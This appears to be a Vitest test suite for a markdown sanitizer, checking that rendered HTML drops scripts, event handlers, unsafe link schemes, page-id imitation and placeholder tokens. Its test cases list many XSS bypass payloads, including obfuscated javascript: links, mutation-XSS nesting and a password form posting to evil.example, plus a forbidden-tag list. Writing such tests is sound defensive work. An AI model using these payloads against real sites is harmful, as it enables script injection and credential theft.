import { describe, expect, test } from 'vitest';
import { preview, render, tagsOf, textOf, valuesOf } from './markdown-kit.ts';

const FORBIDDEN =
  /^(?:script|style|iframe|svg|math|form|input|button|select|textarea|object|embed|video|audio|link|meta|base|template|noscript|frame|frameset|dialog)$/;

describe('HTML with scripts', () => {
  test.each([
    '<script>alert(1)</script>',
    '<script src=//evil.example/x.js></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<p onclick="alert(1)">一</p>',
    '<img src="../media/a.jpg" onerror="alert(1)">',
    '<details ontoggle=alert(1) open>一</details>',
    '<p style="background:url(//evil.example)">一</p>',
    '<style>body{display:none}</style>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">一</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
    '<form action="https://evil.example"><input name=password><button formaction=x>登录</button></form>',
    '<input type="text" autofocus onfocus=alert(1)>',
    '<object data=x></object><embed src=x><video src=x><source onerror=alert(1)></video>',
    '<base href="https://evil.example/"><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=x">',
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!-- <!-- --> <script>alert(1)</script> -->',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php <script>alert(1)</script> ?>',
    '**一<script>**alert(1)</script>',
    '<a href="x"><script>alert(1)</script></a>',
    '<p title="`<script>alert(1)</script>`">一</p>',
  ])('loses its active content: %s', async (markdown) => {
    for (const html of [await render(markdown), await preview(markdown)]) {
      expect(tagsOf(html).filter((name) => FORBIDDEN.test(name))).toEqual([]);
      expect(html.replace(/title="[^"]*"/g, '')).not.toMatch(
        /<[^>]*\s(?:on\w+|style|srcdoc|formaction|action|http-equiv)=/i,
      );
      expect(html).not.toContain('<!');
    }
  });

  test('a tag written as entities does not become a tag', async () => {
    expect(await render('&lt;script&gt;alert(1)&lt;/script&gt; `<script>`')).not.toContain(
      '<script',
    );
  });
});

describe('links with unsafe schemes', () => {
  test.each([
    '[甲](javascript:alert(1))',
    '[甲](JaVaScRiPt:alert(1))',
    '[甲](javascript&colon;alert(1))',
    '[甲](&#x6A;avascript:alert(1))',
    '[甲](<java\tscript:alert(1)>)',
    '[甲][1]\n\n[1]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '[甲](data:text/html,<script>alert(1)</script>)',
    '[甲](vbscript:msgbox)',
    '[甲](feed:javascript:alert(1))',
    '[甲](file:///etc/passwd)',
    '<a href=" javascript:alert(1)">甲</a>',
    '<a href="&#1;javascript:alert(1)">甲</a>',
    '<a href="java&#10;script:alert(1)">甲</a>',
    '<a href="javascript&NewLine;:alert(1)">甲</a>',
    '<a href="blob:https://evil.example/1">甲</a>',
    '<a xlink:href="javascript:alert(1)">甲</a>',
    '<a href="DATA:text/html;base64,AA">甲</a>',
  ])('lose their target and keep their text: %s', async (markdown) => {
    const html = await render(markdown);
    expect(valuesOf(html, 'href')).toEqual([]);
    expect(textOf(html)).not.toBe('');
  });
});

describe('imitations of the site’s own parts', () => {
  test('keep only the class names of the site’s blocks', async () => {
    const html = await render(
      '<p class="sr-only note-title site-header">一</p><div class="external">二</div>',
    );
    expect(html).not.toMatch(/sr-only|site-header|external/);
    expect(html).toContain('class="note-title"');
  });

  test.each([
    '<p id="main">一</p>',
    '<h2 id="query">一</h2>',
    '<a id="search" name="search">一</a>',
    '<div id="user-content-x">一</div>',
  ])('cannot take an id of the page: %s', async (markdown) => {
    const html = await render(markdown);
    expect(valuesOf(html, 'id').filter((id) => !id.startsWith('h-'))).toEqual([]);
    expect(html).not.toContain('name=');
  });

  test('lose role, focus and data attributes', async () => {
    const html = await render(
      '<p role="alert" tabindex="1" aria-hidden="true" data-period="offer" contenteditable hidden>一</p>',
    );
    expect(html).toBe('<p>一</p>');
  });

  test('keep language, direction and title', async () => {
    expect(await render('<p lang="en" dir="ltr" title="a">b</p>')).toBe(
      '<p lang="en" dir="ltr" title="a">b</p>',
    );
  });
});

test.each([
  '__ASTRO_IMAGE_="x"',
  '&#95;&#95;ASTRO&#95;IMAGE&#95;="x"',
  "<b title='__ASTRO_IMAGE_='>一</b>",
])('is not read as an image placeholder: %s', async (body) => {
  expect(await render(body)).not.toContain('__ASTRO_IMAGE_');
});
